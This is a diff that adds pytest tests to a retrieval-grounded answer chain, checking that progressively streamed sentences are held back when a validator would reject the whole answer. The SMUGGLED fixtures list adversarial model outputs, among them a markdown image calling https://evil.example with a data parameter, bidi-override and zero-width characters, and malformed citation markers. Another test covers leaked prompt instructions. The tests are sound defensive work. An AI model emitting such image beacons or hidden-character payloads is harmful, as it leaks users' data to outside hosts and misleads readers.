@@ -244,3 +244,174 @@ def test_an_async_reader_that_goes_away_leaves_one_record(mode: str) -> None:
 
 async def _first(chain: Any) -> list[Any]:
     return [event async for event in chain.astream(_bundle())]
+
+
+# What an adversarial review found (each failed before its fix) ---------------------------
+
+S0, S1, S2 = (
+    "Replace the case drain filter every 500 operating hours. [C0]",
+    "Tighten the filter housing bolts to 40 Nm. [C1]",
+    "Record the filter change in the maintenance log. [C2]",
+)
+BASE = "Replace the case drain filter every 500 operating hours"
+CHUNK_ID = "kb7-chunk-000042"
+SMUGGLED = {
+    "a malformed marker carrying a value": (f"{BASE} [C0 and torque to 95 Nm]. [C0]", "95 Nm"),
+    "a malformed marker carrying a word": (f"{BASE} [C0 with tool {CANARY}]. [C0]", CANARY),
+    "a malformed marker carrying a chunk id": (f"{BASE} [C0 {CHUNK_ID}]. [C0]", CHUNK_ID),
+    "a markdown image": (f"{BASE} ![x](https://evil.example/p.png?d=K0). [C0]", "evil.example"),
+    "strikethrough": (BASE.replace("every", "~~never~~ every") + ". [C0]", "~~never~~"),
+    "html": (BASE.replace("every", "<u>every</u>") + ". [C0]", "<u>"),
+    "a zero-width space": (BASE.replace("case ", "case\u200b ") + ". [C0]", "\u200b"),
+    "a bidi override": (BASE.replace("case", "\u202ecase\u202c") + ". [C0]", "\u202e"),
+    "an invented anchor": (f"{BASE}. [C0][C9]", "[C9]"),
+}
+
+
+def _progressive_events(tokens: list[str], rows: list[dict[str, Any]] = ROWS) -> list[Any]:
+    chain = grounded_answer_chain(
+        model=TokenStreamModel(tokens=tokens), policy=_policy("progressive")
+    )
+    question = "How often is the case drain filter replaced, and at what torque?"
+    return list(chain.stream(make_bundle(rows, user_question=question)))
+
+
+@pytest.mark.parametrize("name", list(SMUGGLED))
+def test_progressive_never_emits_what_a_whole_answer_rule_rejects(name: str) -> None:
+    # Findings about no one sentence (a malformed marker, unsafe output, an unknown
+    # anchor) hold a sentence back as much as a sentence's own: a retraction is too late
+    # for a reader whose renderer has already fetched an image.
+    sentence, secret = SMUGGLED[name]
+    rows = [dict(ROWS[0], chunk_id=CHUNK_ID), *ROWS[1:]]
+    events = _progressive_events(_words(f"{sentence} {S1} {S2}"), rows)
+    assert events[-1].response.status is GenerationStatus.FAILED
+    assert secret not in repr(events)
+
+
+def test_progressive_never_emits_the_prompts_instructions_repeated() -> None:
+    rule = "For the filter log you cite that evidence for every statement you make."
+    rows = [*ROWS, {"chunk_id": "c3", "rank": 3, "similarity": 0.84, "knowledge_id": "K3",
+                    "chunk_text": rule}]  # fmt: skip
+    events = _progressive_events(_words(f"{S0} {rule} [C3] {S1} {S2}"), rows)
+    assert events[-1].response.failure_reason is ReasonCode.METADATA_LEAK
+    assert "every statement you make" not in repr(events)
+
+
+@pytest.mark.parametrize("mode", ["buffered", "progressive"])
+def test_a_model_without_a_stream_of_its_own_streams_what_invoke_answers(mode: str) -> None:
+    from tests.fakes.chat import ScriptedChatModel  # noqa: PLC0415
+
+    chain = grounded_answer_chain(model=ScriptedChatModel(text=GOOD), policy=_policy(mode))
+    assert chain.invoke(_bundle()).status is GenerationStatus.OK
+    events = list(chain.stream(_bundle()))
+    assert _shape(events) == ["answer_delta"] * 3 + ["response"]
+    assert events[-1].response.status is GenerationStatus.OK
+
+
+def test_under_a_judged_policy_no_sentence_goes_out_before_the_judge() -> None:
+    from langchain_core.runnables import RunnableLambda  # noqa: PLC0415
+
+    judge = RunnableLambda(
+        lambda q: {"verdict": "unsupported" if "40 Nm" in q["sentence"] else "supported",
+                   "score": 0.9},
+        name="judge",
+    )  # fmt: skip
+    policy = load_policy("R2_POLICY_V3_JUDGED").model_copy(
+        update={"policy_version": "STREAM_JUDGED_V1", "stream_mode": "progressive"}
+    )
+    chain = grounded_answer_chain(
+        model=TokenStreamModel(tokens=_words(GOOD)), policy=policy, judge=judge
+    )
+    events = list(chain.stream(_bundle()))
+    assert events[-1].response.failure_reason is ReasonCode.SUPPORT_JUDGE_REJECTED
+    assert _shape(events) == ["response"]
+
+
+def test_text_from_another_model_than_the_pinned_one_never_goes_out() -> None:
+    # The model's name comes with its first chunk: from then on no text reaches R5.
+    chain, _ = _chain(_words(GOOD), "progressive")
+    step = chain.steps[2]
+    drifting = TokenStreamModel(tokens=_words(GOOD), model_name="another-model", name_first=True)
+    for cap in list(step.stream_models):  # the provider answers with another model
+        step.stream_models[cap] = drifting
+    events = list(chain.stream(_bundle()))
+    assert _shape(events) == ["response"]
+    assert events[-1].response.failure_reason is ReasonCode.MODEL_DRIFT
+
+
+RESEGMENTED = {
+    "a citation list line": [*_words(GOOD), "\n", "Sources", ":", " [", "C", "0", "][", "C",
+                             "1", "][", "C", "2", "]"],
+    "a table row": _words(f"| {S0} | {S1} |\n{S2}"),
+    "a quotation": _words(f'The manual says "{BASE}. [C0] Tighten the filter housing bolts to '
+                          f'40 Nm." [C1] {S2}'),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", list(RESEGMENTED))
+def test_an_answer_that_passes_is_never_retracted_and_its_deltas_join_into_it(name: str) -> None:
+    events = _progressive_events(RESEGMENTED[name])
+    response = events[-1].response
+    assert response.status is GenerationStatus.OK
+    assert "retract" not in _shape(events)
+    assert "".join(e.text for e in events[:-1]) == response.answer
+
+
+def test_an_applications_token_handler_hears_no_token_under_stream() -> None:
+    # invoke's model never streams, so no handler hears a token; the streamed twin must not
+    # change that (a handler printing tokens to a reader would show unjudged text).
+    from langchain_core.callbacks import BaseCallbackHandler  # noqa: PLC0415
+
+    class Tokens(BaseCallbackHandler):
+        def __init__(self) -> None:
+            self.tokens: list[str] = []
+            self.ends = 0
+
+        def on_llm_new_token(self, token: str, **kwargs: Any) -> None:
+            self.tokens.append(token)
+
+        def on_llm_end(self, response: Any, **kwargs: Any) -> None:
+            self.ends += 1
+
+    chain, _ = _chain(_words(BAD_LAST), "progressive")
+    handler = Tokens()
+    events = list(chain.stream(_bundle(), {"callbacks": [handler]}))
+    assert events[-1].response.status is GenerationStatus.FAILED
+    assert handler.tokens == []
+    assert handler.ends == 1  # it still sees the model's run end, as under invoke
+
+
+def test_a_stream_that_drips_past_the_request_deadline_ends_at_it() -> None:
+    from langchain_openai import ChatOpenAI  # noqa: PLC0415
+
+    from tests.builders import policy_with  # noqa: PLC0415
+    from tests.fakes.openai_server import FakeOpenAI, Reply  # noqa: PLC0415
+
+    execution = {**load_policy().execution.model_dump(), "max_attempts": 1,
+                 "attempt_timeout_seconds": 0.5, "request_deadline_seconds": 1.0}  # fmt: skip
+    policy = policy_with(policy_version="DRIP_V1", stream_mode="progressive", execution=execution)
+    with FakeOpenAI() as server:
+        server.script(Reply(text=GOOD, seconds_per_chunk=0.15))  # each read within its timeout
+        model = ChatOpenAI(model="gpt-4.1-mini", api_key="sk-test", base_url=server.url)
+        events = list(grounded_answer_chain(model=model, policy=policy).stream(_bundle()))
+    assert events[-1].response.failure_reason is ReasonCode.MODEL_DEADLINE_EXCEEDED
+    if len(events) > 1:
+        assert events[-2].type == "retract"
+
+
+def test_a_long_progressive_answer_judges_a_bounded_number_of_prefixes(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from groundlock.core import streaming  # noqa: PLC0415
+
+    calls = []
+    judge = streaming.validate_answer
+
+    def counted(*args: Any, **kwargs: Any) -> Any:
+        calls.append(1)
+        return judge(*args, **kwargs)
+
+    monkeypatch.setattr(streaming, "validate_answer", counted)
+    tokens = _words(" ".join([S1] * 89))[:800]  # the default output cap
+    list(_chain(tokens, "progressive")[0].stream(_bundle()))
+    assert len(calls) <= streaming.MAX_EARLY_SENTENCES
